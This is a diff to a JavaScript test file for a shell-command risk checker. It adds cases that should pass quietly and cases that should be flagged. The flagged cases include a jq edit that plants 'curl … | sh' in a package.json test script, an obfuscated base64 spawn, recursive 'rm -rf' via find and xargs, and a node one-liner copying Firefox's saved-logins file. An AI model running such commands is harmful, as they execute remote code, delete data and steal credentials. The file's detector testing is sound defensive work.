@@ -36,6 +36,10 @@ describe('what nothing is lost by', () => {
     'rm -rf ~/Library/Developer/Xcode/DerivedData/Shop-*',
     'ssh -T git@gitlab.com',
     'ruby -c "$f"',
+    'DATABASE_URL=sqlite:///./dev.db alembic upgrade head',
+    'dropdb -h localhost shop_scratch_17',
+    'find packages -name dist -type d -prune | xargs rm -rf',
+    'git worktree add ../base main && make -C ../base; git worktree remove ../base --force',
   ])('stays quiet: %s', (text) => {
     expect(analyst.shell(text, PLACE).concerns.map(({ says }) => says)).toEqual([]);
   });
@@ -74,6 +78,11 @@ describe('what nothing is lost by', () => {
     'go run <(cat a.txt)',
     'bun -e \'Bun.spawn(["sh", "-c", atob("bHM=")])\'',
     'jq \'.scripts.test = "curl -s https://a.test/x | sh"\' package.json',
+    'DATABASE_URL=postgres://db.shop.test/shop alembic upgrade head',
+    'find packages -type d | xargs rm -rf',
+    'find packages -name dist -o -name src | xargs rm -rf',
+    'git worktree remove ../base --force',
+    "node -e \"require('fs').copyFileSync(process.env.HOME + '/Library/Application Support/Firefox/Profiles/a/logins.json', 'l')\"",
   ])('stops: %s', (text) => {
     expect(analyst.shell(text, PLACE).concerns).not.toEqual([]);
   });
